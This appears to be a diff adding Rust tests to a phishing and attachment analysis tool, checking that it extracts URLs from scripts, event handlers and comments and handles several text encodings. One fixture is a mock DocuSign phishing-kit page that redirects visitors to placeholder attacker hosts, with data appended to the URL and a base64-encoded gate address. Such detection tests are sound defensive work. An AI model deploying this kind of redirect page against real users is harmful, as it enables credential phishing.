@@ -2,7 +2,7 @@
 
 use super::artifact;
 use crate::{Analysis, Engine, Settings};
-use watchfire_model::{DiagnosticSeverity, DomainName, Organisation, Place, Verdict};
+use watchfire_model::{DiagnosticSeverity, DomainName, Encoding, Observed, Organisation, Place, Role, Verdict, Via};
 
 fn analyze(name: &str, bytes: &[u8]) -> Analysis {
     let settings = Settings {
@@ -234,4 +234,125 @@ fn a_deceptive_name_is_told_once_where_it_stands() {
     let archive = tar(hidden, b"plain text");
     assert_eq!(places("a.tar", &archive), [("a.tar".to_owned(), Place::Member(1))]);
     assert_eq!(places(hidden, b"plain text"), [(hidden.to_owned(), Place::Whole)]);
+}
+
+/// What a kit sends as an attachment: nothing to see, everything in its scripts.
+const KIT: &str = "<html><head><title>DocuSign</title><script>window.location.href=\"https://phish.evil-site.com/login?u=\"+\
+    btoa(e);var x=atob(\"aHR0cHM6Ly9ldmlsLXNpdGUyLmNvbS9nYXRlLnBocA==\");</script></head>\
+    <body onload=\"location='http://onload.evil-site.com/?a=1&amp;b=2'\"><!-- kit by http://hidden.evil-site.com/x --><p>Hello</p></body></html>";
+
+#[test]
+fn scripts_handlers_and_comments_are_read() {
+    let analysis = analyze("js.html", KIT.as_bytes());
+    let of = |via: Via| -> Vec<&str> {
+        let seen = analysis.artifacts[0].observables.iter();
+        seen.filter(|seen| seen.via == Some(via))
+            .map(|seen| seen.observable.raw())
+            .collect()
+    };
+    let scripts = of(Via::Script);
+    for url in [
+        "https://phish.evil-site.com/login?u=",
+        "http://onload.evil-site.com/?a=1&b=2",
+    ] {
+        assert!(scripts.contains(&url), "{url} in {scripts:?}");
+    }
+    assert!(
+        scripts.iter().any(|value| value.contains("evil-site2.com")),
+        "{scripts:?}"
+    );
+    assert!(of(Via::Comment).contains(&"http://hidden.evil-site.com/x"));
+    let presented = |seen: &&Observed| seen.role != Role::Mentioned;
+    assert_eq!(analysis.artifacts[0].observables.iter().find(presented), None);
+}
+
+#[test]
+fn a_page_made_by_its_script_says_so() {
+    let analysis = analyze("js.html", KIT.as_bytes());
+    assert!(!analysis.artifacts[0].read, "nobody saw what the script shows");
+    assert_eq!(analysis.diagnostics[0].code, "html-script-page");
+    assert!(
+        analysis
+            .findings
+            .iter()
+            .any(|finding| finding.rule.0 == "document-script-page")
+    );
+
+    let article = format!(
+        "<p>{}</p><script>track('https://stats.example/')</script>",
+        "word ".repeat(100)
+    );
+    let analysis = analyze("article.html", article.as_bytes());
+    assert!(analysis.artifacts[0].read);
+    assert_eq!(analysis.diagnostics[0].code, "html-script");
+    assert_eq!(analysis.findings, []);
+
+    let loader = "<div id=root></div><script src=https://cdn.example/app.js></script>";
+    let analysis = analyze("loader.html", loader.as_bytes());
+    assert!(!analysis.artifacts[0].read && analysis.findings.is_empty());
+
+    let page = "<h1>Notice</h1><!-- no script here -->";
+    assert_eq!(analyze("page.html", page.as_bytes()).diagnostics, []);
+}
+
+#[test]
+fn raw_is_what_stands_there() {
+    let base = "<base href='https://base.example/d/'><a href=sub/evil.exe>t</a>";
+    let pages = [
+        KIT,
+        base,
+        "<a href=\"http://evil-site.com/a\">x</a> <p>203.0.113&#46;7 and ev<wbr>il-site2.co&#109; and x</p>",
+        "<a href='https&#58;//evil-site.com/?a=1&amp;b=2#c'>x</a><img src='//cdn.evil-site.com/p.png'>",
+        "<!-- é --><p hidden>http://evil-site.com/\u{200b}x</p><input value='a@evil-site.com'>",
+    ];
+    for page in pages {
+        let wide: Vec<u8> = "\u{feff}"
+            .encode_utf16()
+            .chain(page.encode_utf16())
+            .flat_map(u16::to_le_bytes)
+            .collect();
+        let utf32: Vec<u8> = "\u{feff}"
+            .chars()
+            .chain(page.chars())
+            .flat_map(|c| u32::from(c).to_be_bytes())
+            .collect();
+        let marked: Vec<u8> = [b"\xef\xbb\xbf".as_slice(), page.as_bytes()].concat();
+        for (bytes, encoding) in [
+            (page.as_bytes().to_vec(), None),
+            (marked, None),
+            (wide, Some(Encoding::Utf16Le)),
+            (utf32, Some(Encoding::Utf32Be)),
+        ] {
+            let analysis = analyze("page.html", &bytes);
+            let root = &analysis.artifacts[0];
+            assert!(!root.observables.is_empty());
+            for seen in &root.observables {
+                let there = &bytes[seen.span.start as usize..seen.span.end as usize];
+                let there = match encoding {
+                    None => String::from_utf8_lossy(there).into_owned(),
+                    Some(Encoding::Utf16Le) => {
+                        let units = there.chunks(2).map(|unit| u16::from_le_bytes([unit[0], unit[1]]));
+                        String::from_utf16(&units.collect::<Vec<_>>()).unwrap()
+                    }
+                    Some(_) => there
+                        .chunks(4)
+                        .map(|unit| char::from_u32(u32::from_be_bytes(unit.try_into().unwrap())).unwrap())
+                        .collect(),
+                };
+                assert_eq!(seen.raw.raw(), there, "{page}: {seen:?}");
+                let decoded = matches!(seen.encoding, Some(Encoding::Base64 | Encoding::Percent));
+                assert!(decoded || seen.encoding == encoding, "{seen:?}");
+            }
+        }
+    }
+}
+
+#[test]
+fn utf_32_is_named() {
+    let bytes: Vec<u8> = "\u{feff}ip 203.0.113.7"
+        .chars()
+        .flat_map(|c| u32::from(c).to_le_bytes())
+        .collect();
+    let analysis = check("note.txt", &bytes, &["ipv4 203.0.113.7 :1 @16..60 203.0.113.7"]);
+    assert_eq!(analysis.artifacts[0].observables[0].encoding, Some(Encoding::Utf32Le));
 }
